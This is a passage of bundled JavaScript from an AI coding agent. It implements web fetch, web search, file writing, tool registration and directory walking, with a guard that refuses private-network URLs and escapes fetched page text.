            reject(error instanceof Error ? error : new Error((0,errors/* errorMessage */.gJ)(error)));
        });
    });
}

// EXTERNAL MODULE: ./src/platform/version.ts + 1 modules
var version = __webpack_require__(16138);
;// CONCATENATED MODULE: ./src/tools/grounding.ts
/** The answer text of a response: the first candidate's text parts, thoughts left out. */
function responseText(response) {
    const parts = response.candidates?.[0]?.content?.parts ?? [];
    return parts
        .filter((part) => typeof part.text === 'string' && part.thought !== true)
        .map((part) => part.text ?? '')
        .join('');
}
/**
 * Inserts `[n]` markers (1-based chunk numbers) at each support's `segment.endIndex`. The indices
 * are UTF-8 byte offsets, so the text is cut as bytes; markers go in from the end so earlier
 * offsets stay valid. An offset inside a multi-byte character moves to the character's end, and
 * one past the end of the text is clamped to it.
 */
function insertCitationMarkers(text, supports) {
    const insertions = [];
    for (const support of supports ?? []) {
        const end = support.segment?.endIndex;
        const indices = support.groundingChunkIndices;
        if (end === undefined || !indices)
            continue;
        insertions.push({ index: end, marker: indices.map((i) => `[${i + 1}]`).join('') });
    }
    if (insertions.length === 0)
        return text;
    // Stable sort: of two markers at one offset, the later support's marker ends up first.
    insertions.sort((a, b) => b.index - a.index);
    const bytes = Buffer.from(text, 'utf8');
    const pieces = [];
    let rest = bytes.length;
    for (const { index, marker } of insertions) {
        const at = characterBoundary(bytes, Math.max(0, Math.min(index, rest)));
        pieces.unshift(bytes.subarray(at, rest));
        pieces.unshift(Buffer.from(marker, 'utf8'));
        rest = at;
    }
    pieces.unshift(bytes.subarray(0, rest));
    return Buffer.concat(pieces).toString('utf8');
}
/** The first offset at or after `index` that does not fall inside a UTF-8 sequence. */
function characterBoundary(bytes, index) {
    let at = index;
    while (at < bytes.length && ((bytes[at] ?? 0) & 0xc0) === 0x80)
        at += 1;
    return at;
}
/** `[1] Title (uri)` lines; a chunk without a title is `Untitled`. */
function formatSources(chunks, options) {
    return chunks.map((chunk, i) => {
        const title = chunk.web?.title || 'Untitled';
        const uri = chunk.web?.uri || options.missingUri;
        return `[${i + 1}] ${title} (${uri})`;
    });
}
/**
 * The answer with citation markers and a `Sources:` list appended. Without grounding chunks the
 * text is returned unchanged: markers would point at a list that does not exist.
 */
function withCitations(text, response, options) {
    const metadata = response.candidates?.[0]?.groundingMetadata;
    const chunks = metadata?.groundingChunks ?? [];
    if (chunks.length === 0)
        return text;
    const cited = insertCitationMarkers(text, metadata?.groundingSupports);
    return `${cited}\n\nSources:\n${formatSources(chunks, options).join('\n')}`;
}

;// CONCATENATED MODULE: ./src/tools/web-fetch.ts
/**
 * `web_fetch`: the model asks about up to 20 URLs in one prompt. First the Gemini API's URL
 * context tool fetches them (on Google's side); when that fails or retrieves nothing, we fetch
 * each URL ourselves, under the network guard, and ask the model to answer from the page text.
 * Strings the model reads follow the Gemini CLI.
 */









const WEB_FETCH_TOOL_NAME = 'web_fetch';
const MAX_URLS_PER_PROMPT = 20;
/** The most page text (all URLs together) the fallback hands to the model. */
const MAX_FALLBACK_CONTENT_CHARS = 250_000;
/** A URL-context call that never settles falls back to fetching locally after this long. */
const PRIMARY_FETCH_TIMEOUT_MS = 30_000;
const web_fetch_TRUNCATION_WARNING = '\n\n... [Content truncated due to size limit] ...';
const USER_AGENT = `Mozilla/5.0 (compatible; GeminiAgent/${version/* VERSION */.x})`;
const web_fetch_parameters = schemas/* object */.Ikc({
    prompt: schemas/* string */.YjP()
        .describe('A comprehensive prompt that includes the URL(s) (up to 20) to fetch and specific instructions on how to process their content (e.g., "Summarize https://example.com/article and extract key points from https://another.com/data"). All URLs to be fetched must be valid and complete, starting with "http://" or "https://", and be fully-formed with a valid hostname (e.g., a domain name like "example.com" or an IP address). For example, "https://example.com" is valid, but "example.com" is not.'),
});
/** The http(s) URLs in a prompt (whitespace-separated tokens containing `://`), and bad ones. */
function parsePrompt(text) {
    const validUrls = [];
    const errors = [];
    for (const token of text.split(/\s+/)) {
        if (!token.includes('://'))
            continue;
        let url;
        try {
            url = new URL(token);
        }
        catch {
            errors.push(`Malformed URL detected: "${token}".`);
            continue;
        }
        if (url.protocol === 'http:' || url.protocol === 'https:')
            validUrls.push(url.href);
        else {
            errors.push(`Unsupported protocol in URL: "${token}". Only http and https are supported.`);
        }
    }
    return { validUrls, errors };
}
/** `github.com/<owner>/<repo>/blob/<ref>/<path>` → the raw file on raw.githubusercontent.com. */
function convertGithubUrlToRaw(input) {
    try {
        const url = new URL(input);
        if (url.hostname === 'github.com' && url.pathname.includes('/blob/')) {
            url.hostname = 'raw.githubusercontent.com';
            url.pathname = url.pathname.replace(/^\/([^/]+\/[^/]+)\/blob\//, '/$1/');
            return url.href;
        }
    }
    catch {
        // Not a URL: nothing to convert.
    }
    return input;
}
function createWebFetchTool(options) {
    return (0,define_tool/* defineTool */.u)({
        name: WEB_FETCH_TOOL_NAME,
        displayName: 'WebFetch',
        description: "Processes content from URL(s) embedded in a prompt. Include up to 20 URLs and instructions (e.g., summarize, extract specific data) directly in the 'prompt' parameter. Addresses on local and private networks (e.g., localhost, 10.x, 192.168.x) cannot be fetched.",
        kind: 'fetch',
        parameters: web_fetch_parameters,
        validate({ prompt }) {
            if (prompt.trim() === '') {
                return {
                    message: "The 'prompt' parameter cannot be empty and must contain URL(s) and instructions.",
                    type: 'invalid_tool_params',
                };
            }
            const { validUrls, errors } = parsePrompt(prompt);
            if (errors.length > 0) {
                return {
                    message: `Error(s) in prompt URLs:\n- ${errors.join('\n- ')}`,
                    type: 'invalid_tool_params',
                };
            }
            if (validUrls.length === 0) {
                return {
                    message: "The 'prompt' must contain at least one valid URL (starting with http:// or https://).",
                    type: 'web_fetch_no_url_in_prompt',
                };
            }
            const count = new Set(validUrls).size;
            if (count > MAX_URLS_PER_PROMPT) {
                return {
                    message: `The 'prompt' may contain at most ${MAX_URLS_PER_PROMPT} URLs, but it contains ${count}.`,
                    type: 'invalid_tool_params',
                };
            }
            return null;
        },
        invocation({ prompt }) {
            const shown = prompt.length > 100 ? `${prompt.substring(0, 97)}...` : prompt;
            const description = `Processing URLs and instructions from prompt: "${shown}"`;
            return {
                describe: () => description,
                locations: () => [],
                confirmationDetails: () => Promise.resolve({
                    type: 'info',
                    title: 'Confirm Web Fetch',
                    prompt,
                    urls: parsePrompt(prompt).validUrls.map(convertGithubUrlToRaw),
                }),
                execute: (signal) => webFetch(options, prompt, signal),
            };
        },
    });
}
function web_fetch_failure(message, type) {
    return {
        llmContent: `Error: ${message}`,
        returnDisplay: `Error: ${message}`,
        error: { message, type },
    };
}
async function webFetch(options, prompt, signal) {
    const urls = [...new Set(parsePrompt(prompt).validUrls)];
    const { allowed, skipped } = await screenUrls(urls, options.network ?? {}, signal);
    if (allowed.length === 0) {
        return web_fetch_failure(`All requested URLs were skipped: ${skipped.join(', ')}`, 'web_fetch_processing_error');
    }
    const warning = skipped.length > 0
        ? `[Warning] The following URLs were skipped:\n${skipped.join('\n')}\n\n`
        : '';
    const primary = await fetchWithUrlContext(options, prompt, signal);
    if (primary !== null) {
        return { llmContent: `${warning}${primary}`, returnDisplay: 'Content processed from prompt.' };
    }
    return fetchLocally(options, { prompt, urls: allowed, warning }, signal);
}
/**
 * URLs whose host the address policy refuses are reported as skipped and never fetched here;
 * when all are refused the call ends before any request. (The URL-context call still gets the
 * prompt as written, but Google's fetcher cannot reach the runner's network.) A host that does
 * not resolve here stays in: Google's fetcher may still reach it.
 */
async function screenUrls(urls, network, signal) {
    // A resolver that never answers must not hold the call up; the fetch itself re-checks anyway.
    const bounded = AbortSignal.any([
        signal,
        AbortSignal.timeout(network.timeoutMs ?? DEFAULT_FETCH_TIMEOUT_MS),
    ]);
    const checks = await Promise.all(urls.map(async (url) => {
        try {
            await vetUrl(convertGithubUrlToRaw(url), { ...network, signal: bounded });
            return true;
        }
        catch (error) {
            return !(error instanceof NetworkAccessRefusedError);
        }
    }));
    return {
        allowed: urls.filter((_, i) => checks[i]),
        skipped: urls.filter((_, i) => !checks[i]).map((url) => `[Blocked Host] ${url}`),
    };
}
/** The URL-context answer with citations, or null when it failed or retrieved nothing. */
async function fetchWithUrlContext(options, prompt, signal) {
    const logger = options.logger ?? platform_logger/* silentLogger */.qq;
    const controller = new AbortController();
    const timer = setTimeout(() => {
        controller.abort(new Error('The URL context request timed out'));
    }, options.primaryTimeoutMs ?? PRIMARY_FETCH_TIMEOUT_MS);
    const forward = () => {
        controller.abort(signal.reason);
    };
    signal.addEventListener('abort', forward, { once: true });
    let response;
    try {
        response = await options.contentGenerator.generateContent({
            model: options.model,
            contents: [{ role: 'user', parts: [{ text: prompt }] }],
            config: { tools: [{ urlContext: {} }], abortSignal: controller.signal },
        }, options.promptId ?? 'web-fetch');
    }
    catch (error) {
        if (signal.aborted)
            throw error;
        logger.debug(`web_fetch: URL context failed, fetching locally: ${(0,errors/* errorMessage */.gJ)(error)}`);
        return null;
    }
    finally {
        clearTimeout(timer);
        signal.removeEventListener('abort', forward);
    }
    const candidate = response.candidates?.[0];
    const retrievals = candidate?.urlContextMetadata?.urlMetadata ?? [];
    if (retrievals.length > 0 &&
        retrievals.every((entry) => entry.urlRetrievalStatus !== node/* UrlRetrievalStatus */.QN.URL_RETRIEVAL_STATUS_SUCCESS)) {
        logger.debug('web_fetch: URL context retrieved none of the URLs, fetching locally');
        return null;
    }
    const text = responseText(response);
    const sources = candidate?.groundingMetadata?.groundingChunks ?? [];
    if (text.trim() === '' && sources.length === 0) {
        logger.debug('web_fetch: URL context returned nothing, fetching locally');
        return null;
    }
    return withCitations(text, response, { missingUri: 'Unknown URI' });
}
async function fetchLocally(options, request, signal) {
    const { prompt, urls, warning } = request;
    const results = await Promise.all(urls.map(async (url) => {
        try {
            return { url, content: await fetchPageText(url, options.network ?? {}, signal) };
        }
        catch (error) {
            return { url, error: (0,errors/* errorMessage */.gJ)(error) };
        }
    }));
    signal.throwIfAborted();
    if (results.every((result) => result.content === undefined)) {
        const detail = results.map((result) => `${result.url}: ${result.error ?? ''}`).join(', ');
        return web_fetch_failure(`All fallback fetch attempts failed: ${detail}`, 'web_fetch_fallback_failed');
    }
    const budgeted = shareBudget(results, MAX_FALLBACK_CONTENT_CHARS);
    const sources = results
        .map((result) => {
        const body = budgeted.get(result.url) ?? `Error: ${result.error ?? 'Unknown error'}`;
        return `<source url="${escapeXml(result.url)}">\n${escapeXml(body)}\n</source>`;
    })
        .join('\n');
    const fallbackPrompt = `Follow the user's instructions below using the provided webpage content.

<user_instructions>
${escapeXml(prompt)}
</user_instructions>

I was unable to access the URL(s) directly using the primary fetch tool. Instead, I have fetched the raw content of the page(s). Please use the following content to answer the request. Do not attempt to access the URL(s) again.

<content>
${sources}
</content>
`;
    try {
        const response = await options.contentGenerator.generateContent({
            model: options.model,
            contents: [{ role: 'user', parts: [{ text: fallbackPrompt }] }],
            config: { abortSignal: signal },
        }, options.promptId ?? 'web-fetch');
        return {
            llmContent: `${warning}${responseText(response)}`,
            returnDisplay: `Content for ${urls.length} URL(s) processed using fallback fetch.`,
        };
    }
    catch (error) {
        if (signal.aborted)
            throw error;
        return web_fetch_failure(`Error during fallback processing: ${(0,errors/* errorMessage */.gJ)(error)}`, 'web_fetch_fallback_failed');
    }
}
/** The page as text: HTML (or an unlabelled body) converted, anything else as it came. */
async function fetchPageText(url, network, signal) {
    const page = await guardedFetch(convertGithubUrlToRaw(url), {
        ...network,
        signal,
        headers: { 'User-Agent': USER_AGENT },
    });
    if (page.status < 200 || page.status >= 300) {
        throw new Error(`Request failed with status code ${page.status} ${page.statusText}`);
    }
    const raw = page.body.toString('utf8');
    const contentType = page.contentType.toLowerCase();
    if (contentType !== '' && !contentType.includes('text/html'))
        return raw;
    return (0,html_to_text/* convert */.C6)(raw, {
        wordwrap: false,
        selectors: [
            { selector: 'a', options: { ignoreHref: true } },
            { selector: 'img', format: 'skip' },
        ],
    });
}
/**
 * Shares `budget` characters among the pages: short pages keep all their text, and what they
 * leave is split evenly among the longer ones, which are cut with a visible marker.
 */
function shareBudget(results, budget) {
    const pages = results
        .filter((result) => result.content !== undefined)
        .sort((a, b) => a.content.length - b.content.length);
    const shared = new Map();
    let remaining = budget;
    pages.forEach((page, i) => {
        const share = Math.floor(remaining / (pages.length - i));
        const text = page.content.length <= share
            ? page.content
            : page.content.slice(0, Math.max(0, share - web_fetch_TRUNCATION_WARNING.length)) +
                web_fetch_TRUNCATION_WARNING;
        shared.set(page.url, text);
        remaining -= text.length;
    });
    return shared;
}
/** Page text and the prompt cannot close or forge the tags the fallback prompt is built from. */
function escapeXml(text) {
    return text
        .replace(/&/g, '&amp;')
        .replace(/</g, '&lt;')
        .replace(/>/g, '&gt;')
        .replace(/"/g, '&quot;')
        .replace(/'/g, '&apos;');
}

;// CONCATENATED MODULE: ./src/tools/web-search.ts
/**
 * `google_web_search`: one model call with the Google Search tool; the grounded answer comes back
 * with `[n]` citation markers and a Sources list, in the Gemini CLI's format.
 */




const WEB_SEARCH_TOOL_NAME = 'google_web_search';
const web_search_parameters = schemas/* object */.Ikc({
    query: schemas/* string */.YjP().describe('The search query to find information on the web.'),
});
function createWebSearchTool(options) {
    return (0,define_tool/* defineTool */.u)({
        name: WEB_SEARCH_TOOL_NAME,
        displayName: 'GoogleSearch',
        description: 'Performs a web search using Google Search (via the Gemini API) and returns the results. This tool is useful for finding information on the internet based on a query.',
        kind: 'search',
        parameters: web_search_parameters,
        validate(params) {
            if (params.query.trim() === '') {
                return { message: "The 'query' parameter cannot be empty.", type: 'invalid_tool_params' };
            }
            return null;
        },
        invocation(params) {
            const description = `Searching the web for: "${params.query}"`;
            return {
                describe: () => description,
                locations: () => [],
                confirmationDetails: () => Promise.resolve({ type: 'info', title: 'Confirm Web Search', prompt: params.query }),
                execute: (signal) => search(options, params.query, signal),
            };
        },
    });
}
async function search(options, query, signal) {
    try {
        const response = await options.contentGenerator.generateContent({
            model: options.model,
            contents: [{ role: 'user', parts: [{ text: query }] }],
            config: { tools: [{ googleSearch: {} }], abortSignal: signal },
        }, options.promptId ?? 'web-search');
        const text = responseText(response);
        if (text.trim() === '') {
            return {
                llmContent: `No search results or information found for query: "${query}"`,
                returnDisplay: 'No information found.',
            };
        }
        const cited = withCitations(text, response, { missingUri: 'No URI' });
        return {
            llmContent: `Web search results for "${query}":\n\n${cited}`,
            returnDisplay: `Search results for "${query}" returned.`,
        };
    }
    catch (error) {
        // A cancelled call is the scheduler's to report, not a failed search.
        if (signal.aborted)
            throw error;
        const message = `Error during web search for query "${query}": ${(0,errors/* errorMessage */.gJ)(error)}`;
        return {
            llmContent: `Error: ${message}`,
            returnDisplay: 'Error performing web search.',
            error: { message, type: 'web_search_failed' },
        };
    }
}

;// CONCATENATED MODULE: ./src/tools/write-file.ts
/**
 * `write_file`: the whole content of one file, created (with missing directories) or overwritten.
 * An overwritten file keeps its encoding, byte-order mark, CRLF line endings and mode; the write is
 * atomic. Strings the model reads follow the Gemini CLI.
 */






const WRITE_FILE_TOOL_NAME = 'write_file';
const write_file_parameters = schemas/* object */.Ikc({
    file_path: schemas/* string */.YjP()
        .describe('The path of the file to write: absolute, or relative to the workspace root.'),
    content: schemas/* string */.YjP()
        .describe("The complete content to write. Provide the full file; do not use placeholders like '// ... rest of code'."),
});
function createWriteFileTool(options) {
    const { workspace } = options;
    const writeFile = options.writeFile ?? atomicWriter(workspace);
    return (0,define_tool/* defineTool */.u)({
        name: WRITE_FILE_TOOL_NAME,
        displayName: 'WriteFile',
        description: `Writes the complete content to a file, creating missing parent directories. Overwrites an existing file (keeping its encoding and CRLF line endings). Best for new or small files; use '${REPLACE_TOOL_NAME}' for targeted edits to large files.`,
        kind: 'edit',
        parameters: write_file_parameters,
        withModifiedContent: (params, change) => ({
            file_path: params.file_path,
            content: change.newContent,
        }),
        validate(params) {
            if (params.file_path.trim() === '') {
                return { message: 'Missing or empty "file_path"', type: 'invalid_tool_params' };
            }
            const resolved = workspace.resolve(params.file_path, { purpose: 'write' });
            return resolved.ok ? null : resolved.error;
        },
        invocation(params) {
            const resolved = workspace.resolve(params.file_path, { purpose: 'write' });
            const shown = resolved.ok ? workspace.displayPath(resolved.absolutePath) : params.file_path;
            const description = `Write ${shown}`;
            const title = `Confirm Write: ${shown}`;
            return {
                describe: () => description,
                locations: () => [resolved.ok ? resolved.relativePath : params.file_path],
                async confirmationDetails() {
                    const plan = await planWrite(workspace, params);
                    if (!plan.ok) {
                        // Nothing would be written; the call still runs to give the model the reason.
                        return {
                            type: 'info',
                            title,
                            prompt: `${description}: the file cannot be written (${plan.error.message})`,
                        };
                    }
                    return buildEditConfirmation(plan.change, title);
                },
                async execute(signal) {
                    const plan = await planWrite(workspace, params);
                    if (!plan.ok)
                        return replace_failure(plan.error);
                    const { change } = plan;
                    const error = await commitChange(change, {
                        format: plan.format,
                        mode: plan.mode,
                        signal,
                        writeFile,
                    });
                    if (error)
                        return replace_failure(error);
                    const message = change.originalContent === null
                        ? `Successfully created and wrote to new file: ${change.absolutePath}.`
                        : `Successfully overwrote file: ${change.absolutePath}.`;
                    return { llmContent: message, returnDisplay: buildFileDiff(change) };
                },
            };
        },
    });
}
async function planWrite(workspace, params) {
    // Resolved again: the tree may have changed since the call was validated.
    const resolved = workspace.resolve(params.file_path, { purpose: 'write' });
    if (!resolved.ok)
        return { ok: false, error: resolved.error };
    const filePath = resolved.absolutePath;
    let existing;
    try {
        existing = await readExistingFile(workspace, filePath);
    }
    catch (error) {
        const code = errorCode(error);
        return {
            ok: false,
            error: {
                message: code
                    ? `Error checking existing file '${filePath}': ${(0,errors/* errorMessage */.gJ)(error)} (${code})`
                    : `Error checking existing file: ${(0,errors/* errorMessage */.gJ)(error)}`,
                type: code === 'EACCES' || code === 'EPERM' ? 'permission_denied' : 'file_write_failure',
            },
        };
    }
    const refuse = (message, type) => ({
        ok: false,
        error: { message, type },
    });
    const change = (originalContent, newContent) => ({
        absolutePath: filePath,
        displayPath: workspace.displayPath(filePath),
        originalContent,
        newContent,
    });
    switch (existing.kind) {
        case 'missing':
            return {
                ok: true,
                change: change(null, params.content),
                format: NEW_FILE_FORMAT,
                mode: undefined,
            };
        case 'directory':
            return refuse(`Path is a directory, not a file: ${filePath}`, 'target_is_directory');
        case 'refused':
            return refuse(existing.message, 'path_not_in_workspace');
        case 'not_regular':
            return refuse(notRegularMessage(filePath), 'file_write_failure');
        case 'too_large':
            return refuse(tooLargeMessage(filePath, existing.size), 'file_too_large');
        case 'file': {
            // A file that is not valid text (a binary file) is replaced by plain UTF-8.
            const format = existing.lossless ? existing.format : NEW_FILE_FORMAT;
            const content = format.lineEnding === '\r\n' ? params.content.replace(/\r\n/g, '\n') : params.content;
            return {
                ok: true,
                change: change(existing.content, content),
                format,
                mode: existing.mode,
            };
        }
    }
}

// EXTERNAL MODULE: ./src/tools/write-todos.ts
var write_todos = __webpack_require__(57108);
;// CONCATENATED MODULE: ./src/tools/builtin-tools.ts













/**
 * Names the model may use for a tool besides its own: where the spec and the current Gemini CLI
 * differ, the spec's name is declared and the current one still resolves.
 */
const BUILTIN_TOOL_ALIASES = {
    grep_search: 'search_file_content',
};
function createBuiltinTools(options) {
    const { workspace, logger } = options;
    const tools = [
        createListDirectoryTool({ workspace, logger }),
        (0,read_file/* createReadFileTool */.RE)({ workspace }),
        createSearchFileContentTool({ workspace, logger }),
        createGlobTool({ workspace, logger }),
        createReplaceTool({ workspace }),
        createSmartEditTool({ workspace }),
        createWriteFileTool({ workspace }),
        createReadManyFilesTool({
            workspace,
            ...(options.contextFileNames ? { contextFileNames: options.contextFileNames } : {}),
        }),
        (0,run_shell_command/* createRunShellCommandTool */.dV)({ workspace, logger, ...options.shell }),
        createSaveMemoryTool(options.memoryPath ? { memoryPath: options.memoryPath } : {}),
        (0,write_todos/* createWriteTodosTool */.Z)(),
    ];
    if (options.model) {
        const model = { contentGenerator: options.model.contentGenerator, model: options.model.name };
        tools.push(createWebFetchTool({ ...model, logger }), createWebSearchTool(model));
    }
    return tools;
}
/** Registers the built-in tools with their aliases. */
function registerBuiltinTools(registry, options) {
    for (const tool of createBuiltinTools(options)) {
        const aliases = Object.entries(BUILTIN_TOOL_ALIASES)
            .filter(([, name]) => name === tool.name)
            .map(([alias]) => alias);
        registry.register(tool, { aliases });
    }
}


/***/ }),

/***/ 96511:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   c: () => (/* binding */ toModelJsonSchema),
/* harmony export */   u: () => (/* binding */ defineTool)
/* harmony export */ });
/* harmony import */ var zod__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(98439);

/** Builds a tool from a zod schema, which is both its validator and its `parametersJsonSchema`. */
function defineTool(definition) {
    const parametersJsonSchema = toModelJsonSchema(definition.parameters);
    return {
        name: definition.name,
        displayName: definition.displayName,
        description: definition.description,
        kind: definition.kind,
        parametersJsonSchema,
        ...(definition.serverName === undefined ? {} : { serverName: definition.serverName }),
        ...(definition.withModifiedContent === undefined
            ? {}
            : { withModifiedContent: definition.withModifiedContent }),
        declaration() {
            return {
                name: definition.name,
                description: definition.description,
                parametersJsonSchema,
            };
        },
        build(args) {
            const parsed = definition.parameters.safeParse(applyAliases(args, definition.parameterAliases));
            if (!parsed.success) {
                return {
                    error: `Invalid parameters for ${definition.name}: ${describeIssues(parsed.error)}`,
                    type: 'invalid_tool_params',
                };
            }
            const failure = definition.validate?.(parsed.data) ?? null;
            if (failure)
                return { error: failure.message, type: failure.type };
            return { params: parsed.data, ...definition.invocation(parsed.data) };
        },
    };
}
function applyAliases(args, aliases) {
    if (!aliases || typeof args !== 'object' || args === null || Array.isArray(args))
        return args;
    const original = args;
    const copy = {};
    for (const [key, value] of Object.entries(original)) {
        const name = aliases[key];
        if (name === undefined)
            copy[key] = value;
        else if (!(name in original))
            copy[name] = value;
    }
    return copy;
}
function describeIssues(error) {
    return error.issues
        .map((issue) => {
        const where = issue.path.length > 0 ? issue.path.join('.') : 'params';
        return `${where}: ${issue.message}`;
    })
        .join('; ');
}
/**
 * A JSON schema the Gemini API accepts: zod's output without `$schema` and without the
 * safe-integer bounds zod adds to every `.int()`, which only add noise to every request.
 */
function toModelJsonSchema(schema) {
    const json = zod__WEBPACK_IMPORTED_MODULE_0__/* .toJSONSchema */ .bl(schema, { io: 'input', unrepresentable: 'any' });
    delete json.$schema;
    return stripSafeIntegerBounds(json);
}
function stripSafeIntegerBounds(value) {
    if (Array.isArray(value))
        return value.map(stripSafeIntegerBounds);
    if (typeof value !== 'object' || value === null)
        return value;
    const out = {};
    for (const [key, child] of Object.entries(value)) {
        if (key === 'maximum' && child === Number.MAX_SAFE_INTEGER)
            continue;
        if (key === 'minimum' && child === Number.MIN_SAFE_INTEGER)
            continue;
        out[key] = stripSafeIntegerBounds(child);
    }
    return out;
}


/***/ }),

/***/ 2651:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Fv: () => (/* binding */ walkFiles),
/* harmony export */   GY: () => (/* binding */ inDefaultExcludedDirectory),
/* harmony export */   Rc: () => (/* binding */ DEFAULT_EXCLUDED_DIRECTORIES),
/* harmony export */   Yn: () => (/* binding */ relativePosix),
/* harmony export */   cD: () => (/* binding */ comparePaths),
/* harmony export */   qb: () => (/* binding */ walkFileBatches),
/* harmony export */   r6: () => (/* binding */ escapes)
/* harmony export */ });
/* unused harmony export compareNames */
/* harmony import */ var node_fs_promises__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(51455);
/* harmony import */ var node_fs_promises__WEBPACK_IMPORTED_MODULE_0___default = /*#__PURE__*/__webpack_require__.n(node_fs_promises__WEBPACK_IMPORTED_MODULE_0__);
/* harmony import */ var node_path__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(76760);
/* harmony import */ var node_path__WEBPACK_IMPORTED_MODULE_1___default = /*#__PURE__*/__webpack_require__.n(node_path__WEBPACK_IMPORTED_MODULE_1__);


/**
 * Directories no file tool looks into unless asked for by path: dependency trees and version
 * control data. Compared per path segment (`.git` in any letter case, like the workspace filter).
 */
const DEFAULT_EXCLUDED_DIRECTORIES = [
    'node_modules',
    'bower_components',
    '.git',
    '.svn',
    '.hg',
];
/** True when a segment of `relativePath` (`/`-separated) is one of `DEFAULT_EXCLUDED_DIRECTORIES`. */
function inDefaultExcludedDirectory(relativePath) {
    return relativePath.split('/').some(isDefaultExcludedName);
}
function isDefaultExcludedName(name) {
    return name.toLowerCase() === '.git' || DEFAULT_EXCLUDED_DIRECTORIES.includes(name);
}
/** How many directories, next in walk order, are read before the walk reaches them. */
const READ_AHEAD = 8;
/**
 * Yields the regular files and symlinks below `base` (an absolute, real directory). Entries of a
 * directory come sorted by the UTF-8 bytes of their names, and a directory's contents come where
 * its name sorts, so the order equals `comparePaths` order. Unreadable directories are skipped.
 */
async function* walkFiles(base, options = {}) {
    for await (const batch of walkFileBatches(base, options)) {
        for (const file of batch) {
            // Checked per file, as a caller that aborts expects no further file.
            options.signal?.throwIfAborted();
            yield file;
        }
    }
}
/**
 * `walkFiles` in batches: each batch holds consecutive files of one directory, in walk order.
 * For callers that look at every file of a large tree, where handing the files over one by one
 * costs more than the walk itself.
 *
 * The next few directories in walk order are read while the caller is busy with the current
 * ones, so the walk does not wait for one directory read at a time. `skipDirectory` is called
 * once for every directory reached (possibly a little before the walk gets there).
 */
async function* walkFileBatches(base, options = {}) {
    // The stack of pending entries, kept in reverse so the smallest name is popped first, and
    // (in the same order) the directories among them, whose tops are the ones read ahead.
    const pending = [];
    const directories = [];
    const push = (entries) => {
        for (let index = entries.length - 1; index >= 0; index -= 1) {
            const entry = entries[index];
            if (entry === undefined)
                continue;
            pending.push(entry);
            if (entry.dirent?.isDirectory())
                directories.push(entry);
        }
    };
    const skips = (entry) => options.skipDirectory?.(entry.relativePath) === true;
    const readAhead = () => {
        const last = Math.max(0, directories.length - READ_AHEAD);
        for (let index = directories.length - 1; index >= last; index -= 1) {
            const entry = directories[index];
            if (entry === undefined || entry.listing !== undefined)
                continue;
            entry.listing = skips(entry) ? null : listSorted(entry.absolutePath, entry.relativePath);
        }
    };
    push(await listSorted(node_path__WEBPACK_IMPORTED_MODULE_1___default().resolve(base), ''));
    readAhead();
    let batch = [];
    for (let entry = pending.pop(); entry !== undefined; entry = pending.pop()) {
        options.signal?.throwIfAborted();
        if (directories[directories.length - 1] === entry)
            directories.pop();
        const known = kindOf(entry.absolutePath, entry.dirent);
        // Most entries' kind is in the listing; awaiting only the rest saves a tick per file.
        const kind = typeof known === 'string' ? known : await known;
        if (kind === 'directory') {
            const listing = entry.listing !== undefined
                ? entry.listing
                : skips(entry)
                    ? null
                    : listSorted(entry.absolutePath, entry.relativePath);
            if (listing === null)
                continue;
            if (batch.length > 0) {
                yield batch;
                batch = [];
            }
            push(await listing);
            readAhead();
        }
        else if (kind === 'file' || kind === 'symlink') {
            batch.push({
                absolutePath: entry.absolutePath,
                relativePath: entry.relativePath,
                isSymbolicLink: kind === 'symlink',
            });
        }
    }
    if (batch.length > 0)
        yield batch;
}
async function listSorted(dir, relativeDir) {
    let entries;
    try {
        entries = await (0,node_fs_promises__WEBPACK_IMPORTED_MODULE_0__.readdir)(dir, { withFileTypes: true });
    }
    catch {
        // Removed meanwhile or not readable: nothing to report from it.
        return [];
    }
    // `dir` is normalized and a listed name holds no separator, so this equals `path.join`.
    const prefix = dir.endsWith((node_path__WEBPACK_IMPORTED_MODULE_1___default().sep)) ? dir : dir + (node_path__WEBPACK_IMPORTED_MODULE_1___default().sep);
    const relativePrefix = relativeDir === '' ? '' : `${relativeDir}/`;
    return entries
        .sort((a, b) => compareNames(a.name, b.name))
        .map((dirent) => ({
        absolutePath: prefix + dirent.name,
        relativePath: relativePrefix + dirent.name,
        dirent,
    }));
}
function kindOf(absolutePath, dirent) {
    if (!dirent)
        return kindFromStat(absolutePath);
    if (dirent.isSymbolicLink())
        return 'symlink';
    if (dirent.isDirectory())
        return 'directory';
    if (dirent.isFile())
        return 'file';
    const special = dirent.isFIFO() || dirent.isSocket() || dirent.isBlockDevice() || dirent.isCharacterDevice();
    // Some file systems report no type in a listing; ask for it directly then.
    return special ? 'other' : kindFromStat(absolutePath);
}
async function kindFromStat(absolutePath) {
    try {
        const stats = await (0,node_fs_promises__WEBPACK_IMPORTED_MODULE_0__.lstat)(absolutePath);
        if (stats.isSymbolicLink())
            return 'symlink';
        if (stats.isDirectory())
            return 'directory';
        return stats.isFile() ? 'file' : 'other';
    }
    catch {
        return 'other';
    }
}
/**
 * Orders names by their UTF-8 bytes, which is how ripgrep and git order paths (JavaScript's own
 * string order differs for characters outside the Basic Multilingual Plane).
 */
function compareNames(a, b) {
    if (a === b)
        return 0;
    // Without surrogates (characters outside the Basic Multilingual Plane), UTF-16 code unit order
    // is code point order, which is UTF-8 byte order: no need to encode the names.
    if (!SURROGATE.test(a) && !SURROGATE.test(b))
        return a < b ? -1 : 1;
    return Buffer.compare(Buffer.from(a, 'utf8'), Buffer.from(b, 'utf8'));
}
/** A character outside the Basic Multilingual Plane, or a lone surrogate. */
const SURROGATE = /[\u{10000}-\u{10FFFF}]|[\uD800-\uDFFF]/u;
/** Tree order of `/`-separated relative paths: segment by segment, each by `compareNames`. */
function comparePaths(a, b) {
    const left = a.split('/');
    const right = b.split('/');
    const shared = Math.min(left.length, right.length);
    for (let index = 0; index < shared; index += 1) {
        const order = compareNames(left[index] ?? '', right[index] ?? '');
        if (order !== 0)
            return order;
    }
    return left.length - right.length;
}
/** `path.relative` with `/` separators, for paths shown to the model and matched by globs. */
function relativePosix(from, to) {
